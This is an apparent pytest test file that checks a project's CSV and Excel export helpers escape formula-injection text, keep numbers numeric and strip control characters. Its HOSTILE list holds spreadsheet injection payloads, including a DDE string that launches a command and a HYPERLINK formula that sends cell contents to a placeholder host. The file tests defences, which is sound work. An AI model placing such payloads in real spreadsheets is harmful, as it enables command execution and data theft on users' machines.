import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from synsight.reports.spreadsheets import csv_bytes, safe, xlsx_bytes

HOSTILE = [
    "=cmd|' /C calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "　=1",
    "＝1+1",
    '=HYPERLINK("http://x/?"&A1)',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert str(safe(text)).startswith("'")


@given(st.text())
def test_no_text_begins_like_a_formula(text):
    assert not str(safe(text)).lstrip(" ").startswith(tuple("=+-@\t\r"))


@pytest.mark.parametrize("number", [-1.5, -3, 0.0, None, True])
def test_numbers_stay_numbers(number):
    assert safe(number) is number


def test_csv_keeps_columns_whatever_a_name_holds():
    names = ['a,"b"', "line\nbreak", "=1", "ひび"]
    rows = list(
        csv.reader(io.StringIO(csv_bytes([["x"], *([one] for one in names)]).decode("utf-8-sig"), ""))
    )
    assert rows == [["x"], ['a,"b"'], ["line\nbreak"], ["'=1"], ["ひび"]]


def test_a_workbook_holds_text_as_text_and_numbers_as_numbers():
    data = xlsx_bytes({"one": [["name", "value"], *([text, -1.5] for text in HOSTILE)], "two": [["x"]]})
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["one", "two"]
    for row in list(book["one"].rows)[1:]:
        assert (row[0].data_type, row[1].data_type, row[1].value) == ("s", "n", -1.5)
        assert row[0].value.startswith("'")


def test_control_characters_do_not_stop_a_workbook():
    book = load_workbook(io.BytesIO(xlsx_bytes({"one": [["a\x00b\x08\x1b\u202ec"]]})))
    assert book["one"]["A1"].value == "abc"


def test_the_same_tables_give_the_same_workbook(monkeypatch):
    import datetime

    import openpyxl.writer.excel as writer

    first = xlsx_bytes({"one": [["x", 1]]})

    class Later(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return cls(2044, 4, 4, 4, 4, 4, tzinfo=tz)

    monkeypatch.setattr(writer.datetime, "datetime", Later)
    assert xlsx_bytes({"one": [["x", 1]]}) == first
